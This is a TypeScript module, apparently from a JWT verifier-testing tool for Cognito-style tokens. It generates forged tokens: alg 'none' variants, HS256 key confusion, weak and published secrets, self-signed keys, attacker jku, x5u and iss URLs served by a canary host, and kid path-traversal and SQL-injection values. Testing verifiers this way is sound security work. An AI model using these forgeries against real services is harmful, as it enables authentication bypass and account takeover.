import type { JsonObject } from '../text/json.ts'
import { asPem, selfSigned } from './certificate.ts'
import { bytes, forge, hmac, rsa, type Signer, unsigned, without } from './forge.ts'
import { asJwk, keyForms } from './key-forms.ts'
import { bearer, type Kit, type Makers, sentAsBearer } from './materials.ts'
import { marked } from './tampering.ts'

/** A token for the good one's user with another header. */
function withHeader(kit: Kit, header: JsonObject, signer: Signer): string {
  return forge(header, marked(kit), signer)
}

const algorithm =
  (alg: unknown, signer: Signer = unsigned) =>
  (kit: Kit): string =>
    withHeader(kit, { ...kit.good.header, alg }, signer)

const algorithms = sentAsBearer({
  'alg-none-empty-sig': algorithm('none'),
  'alg-None-empty-sig': algorithm('None'),
  'alg-NONE-empty-sig': algorithm('NONE'),
  'alg-nOnE-empty-sig': algorithm('nOnE'),
  'alg-none-with-old-sig': (kit) => algorithm('none', bytes(Buffer.from(kit.good.parts.signature, 'base64url')))(kit),
  'alg-none-no-kid': (kit) => withHeader(kit, { ...without(kit.good.header, 'kid'), alg: 'none' }, unsigned),
  'alg-missing': (kit) => withHeader(kit, without(kit.good.header, 'alg'), unsigned),
  'alg-empty': algorithm(''),
  'alg-null': algorithm(null),
  'es256-zero-signature': algorithm('ES256', bytes(Buffer.alloc(64))),
  'rs512-self-signed': (kit) => algorithm('RS512', rsa(kit.own.privateKey, 'sha512'))(kit),
})

/** Published with the article's example project, which is where Django projects copy it from. */
const publishedSecretKey = 'w3f6qk5c8g747+r@%=-_wjw5)b5&8x7^n!a3=b_8)!8z-8h!7('

const hs256 = (secret: (kit: Kit) => string | Buffer) => (kit: Kit) => algorithm('HS256', hmac(secret(kit)))(kit)

const confusions = sentAsBearer({
  'hs256-confusion-pem': hs256(({ key }) => keyForms(key).pem),
  'hs256-confusion-pem-no-newline': hs256(({ key }) => keyForms(key).pem.trimEnd()),
  'hs256-confusion-pem-crlf': hs256(({ key }) => keyForms(key).pem.replaceAll('\n', '\r\n')),
  'hs256-confusion-pem-pkcs1': hs256(({ key }) => keyForms(key).pkcs1),
  'hs256-confusion-pem-pkcs1-no-newline': hs256(({ key }) => keyForms(key).pkcs1.trimEnd()),
  'hs256-confusion-jwk-json': hs256(({ key }) => keyForms(key).json),
  'hs256-confusion-modulus': hs256(({ key }) => keyForms(key).modulus),
  'hs256-confusion-der': hs256(({ key }) => keyForms(key).der),
  'hs256-empty-secret': hs256(() => ''),
  'hs256-weak-secret': hs256(() => 'secret'),
  'hs256-django-secret-key': hs256(() => publishedSecretKey),
})

/** RS256 with a key of our own under another header. */
const ownKey =
  (header: (kit: Kit) => JsonObject) =>
  (kit: Kit): string =>
    withHeader(kit, { ...kit.good.header, ...header(kit) }, rsa(kit.own.privateKey))

const selfSignedTokens: Makers = {
  ...sentAsBearer({
    'self-signed-same-kid': ownKey(() => ({})),
    'self-signed-unknown-kid': ownKey(({ own }) => ({ kid: own.kid })),
    'self-signed-no-kid': (kit) => withHeader(kit, without(kit.good.header, 'kid'), rsa(kit.own.privateKey)),
  }),
  'self-signed-other-kid-of-pool': (kit) => {
    const other = kit.keys.find(({ kid }) => kid !== kit.key.kid)
    if (!other) return { missing: 'the pool publishes one key only' }
    return bearer(ownKey(() => ({ kid: other.kid }))(kit))
  },
}

const jwkOf = ({ own }: Kit, kid = own.kid) => asJwk(own.publicKey, kid)

const injections = sentAsBearer({
  'jwk-embedded': ownKey((kit) => ({ kid: kit.own.kid, jwk: jwkOf(kit) })),
  'jwk-embedded-same-kid': ownKey((kit) => ({ jwk: jwkOf(kit, kit.key.kid) })),
  'jku-attacker': ownKey(({ own, canary }) => ({
    kid: own.kid,
    jku: `${canary('jku-attacker')}/.well-known/jwks.json`,
  })),
  'x5u-attacker': ownKey(({ own, canary }) => ({ kid: own.kid, x5u: `${canary('x5u-attacker')}/certificate.pem` })),
  'x5c-embedded': ownKey(({ own, now }) => ({ kid: own.kid, x5c: [selfSigned(own, now).toString('base64')] })),
  'kid-path-traversal': hs256Under('../../../../../../../../dev/null', ''),
  'kid-sql': hs256Under("cogtool' UNION SELECT 'cogtool", 'cogtool'),
  'kid-number': ownKey(() => ({ kid: 1 })),
  'kid-object': ownKey(() => ({ kid: {} })),
  'kid-null': ownKey(() => ({ kid: null })),
  'iss-attacker-url': (kit) => fromIssuer(kit, kit.canary('iss-attacker-url')),
  'iss-attacker-pool': (kit) => fromIssuer(kit, otherPoolIssuer(kit)),
})

/** Cases that anybody can make who has the public keys and one good token of their own. */
export const forgedCases: Makers = { ...algorithms, ...confusions, ...selfSignedTokens, ...injections }

/** What the canary serves: the run's own key as an attacker would publish it. */
export function attackerDocuments(
  { own, now }: Pick<Kit, 'own' | 'now'>,
  base: string,
): Readonly<Record<string, { readonly type: string; readonly text: string }>> {
  const jwksUri = `${base}/.well-known/jwks.json`
  const json = (value: object) => ({ type: 'application/json', text: JSON.stringify(value) })
  return {
    '/.well-known/openid-configuration': json({ issuer: base, jwks_uri: jwksUri }),
    '/.well-known/jwks.json': json({ keys: [asJwk(own.publicKey, own.kid)] }),
    '/certificate.pem': { type: 'application/x-pem-file', text: asPem(selfSigned(own, now)) },
  }
}

/** Another pool's issuer in exactly Cognito's form; the id is nobody's that we know of. */
export function otherPoolIssuer({ good }: Pick<Kit, 'good'>): string {
  const region = /^https:\/\/(?:issuer-)?cognito-idp\.([a-z0-9-]+)\./.exec(String(good.claims.iss))?.[1] ?? 'eu-west-1'
  return `https://cognito-idp.${region}.amazonaws.com/${region}_C0gt00lPr`
}

function fromIssuer(kit: Kit, iss: string): string {
  return forge({ ...kit.good.header, kid: kit.own.kid }, { ...marked(kit), iss }, rsa(kit.own.privateKey))
}

function hs256Under(kid: string, secret: string): (kit: Kit) => string {
  return (kit) => withHeader(kit, { ...kit.good.header, alg: 'HS256', kid }, hmac(secret))
}
